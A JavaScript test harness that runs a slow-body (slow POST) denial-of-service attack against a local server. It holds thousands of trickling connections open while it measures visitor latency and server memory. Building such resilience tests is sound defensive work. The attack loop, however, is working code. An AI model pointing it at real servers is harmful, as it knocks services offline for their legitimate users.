// The slow-body attack: many connections each POST a page with a large Content-Length and send one
// byte every few seconds, re-connecting when the server lets go; meanwhile ordinary visitors ask for
// pages on fresh connections. Measures what the attackers got, what the visitors got, and the
// server's memory (VmRSS of its process, sampled).
import net from "node:net";
import { get } from "./server-process.mjs";
import { memoryMb } from "../proc-stats.mjs";

const VISITOR_PATHS = ["/", "/charity4?id=1", "/page3?id=1", "/about", "/api/homepage/slider"];

export async function runSlowBody({
  port,
  pid,
  connections = 3000,
  durationMs = 30_000,
  byteIntervalMs = 3000,
  contentLength = 10_000,
  target = "/charity4?id=1",
  contentType = target.startsWith("/api/") ? "application/json" : "application/x-www-form-urlencoded",
  rampMs = 2000,
  reconnectDelayMs = 3000,
  visitorIntervalMs = 100,
  onProgress = () => {},
}) {
  const stats = {
    opened: 0,
    connectErrors: 0,
    answered: {}, // status line -> count
    closedUnanswered: 0,
    longestHeldMs: 0,
    stillOpen: 0,
    visitors: { total: 0, byStatus: {}, errors: {}, latencies: [] },
    rss: { peak: 0, samples: [] },
    alive: true,
  };
  let stopping = false;
  const open = new Set();

  function attacker(slot) {
    if (stopping) return;
    const socket = net.connect(port, "127.0.0.1");
    const started = performance.now();
    let answer = "";
    let timer = null;
    let connected = false;
    const entry = { socket, started, answered: () => answer.length > 0, connected: () => connected };
    open.add(entry);
    socket.setNoDelay(true);
    socket.on("connect", () => {
      connected = true;
      stats.opened++;
      socket.write(
        `POST ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: ${contentType}\r\n` +
          `Content-Length: ${contentLength}\r\n\r\na`,
      );
      timer = setInterval(() => {
        if (socket.writable) socket.write("a");
      }, byteIntervalMs);
    });
    socket.on("data", (chunk) => {
      if (answer.length < 64) answer += chunk.toString("latin1");
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      clearInterval(timer);
      open.delete(entry);
      const held = performance.now() - started;
      if (stopping) return;
      if (held > stats.longestHeldMs) stats.longestHeldMs = held;
      const statusLine = /^HTTP\/1\.1 (\d{3})/.exec(answer);
      if (statusLine) stats.answered[statusLine[1]] = (stats.answered[statusLine[1]] ?? 0) + 1;
      else if (connected) stats.closedUnanswered++;
      else stats.connectErrors++;
      setTimeout(() => attacker(slot), reconnectDelayMs);
    });
  }

  async function visitor() {
    let i = 0;
    while (!stopping) {
      const urlPath = VISITOR_PATHS[i++ % VISITOR_PATHS.length];
      const answer = await get(port, urlPath, { timeoutMs: 10_000 });
      if (stopping) break;
      stats.visitors.total++;
      if (answer.error) stats.visitors.errors[answer.error] = (stats.visitors.errors[answer.error] ?? 0) + 1;
      else stats.visitors.byStatus[answer.status] = (stats.visitors.byStatus[answer.status] ?? 0) + 1;
      stats.visitors.latencies.push(answer.ms);
      await new Promise((r) => setTimeout(r, visitorIntervalMs));
    }
  }

  const sampler = setInterval(() => {
    try {
      const { rss } = memoryMb(pid);
      stats.rss.samples.push(rss);
      if (rss > stats.rss.peak) stats.rss.peak = rss;
      onProgress({ rss, open: open.size, stats });
    } catch {
      stats.alive = false;
    }
  }, 500);

  for (let slot = 0; slot < connections; slot++) {
    setTimeout(() => attacker(slot), (slot / connections) * rampMs);
  }
  const visitors = [visitor(), visitor()];
  await new Promise((r) => setTimeout(r, durationMs));
  // Connections the server still holds when the run ends: how long the oldest has been held.
  const now = performance.now();
  stats.stillOpenAnswered = 0;
  stats.stillOpenUnconnected = 0;
  for (const entry of open) {
    if (entry.answered()) stats.stillOpenAnswered++;
    if (!entry.connected()) stats.stillOpenUnconnected++;
    stats.longestHeldMs = Math.max(stats.longestHeldMs, now - entry.started);
  }
  stats.stillOpen = open.size;
  stopping = true;
  clearInterval(sampler);
  for (const { socket } of open) socket.destroy();
  await Promise.all(visitors);
  try {
    memoryMb(pid);
  } catch {
    stats.alive = false;
  }
  const sorted = stats.visitors.latencies.sort((a, b) => a - b);
  const pct = (p) => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? NaN;
  stats.visitors.p50 = pct(50);
  stats.visitors.p99 = pct(99);
  stats.visitors.max = sorted.at(-1) ?? NaN;
  delete stats.visitors.latencies;
  return stats;
}
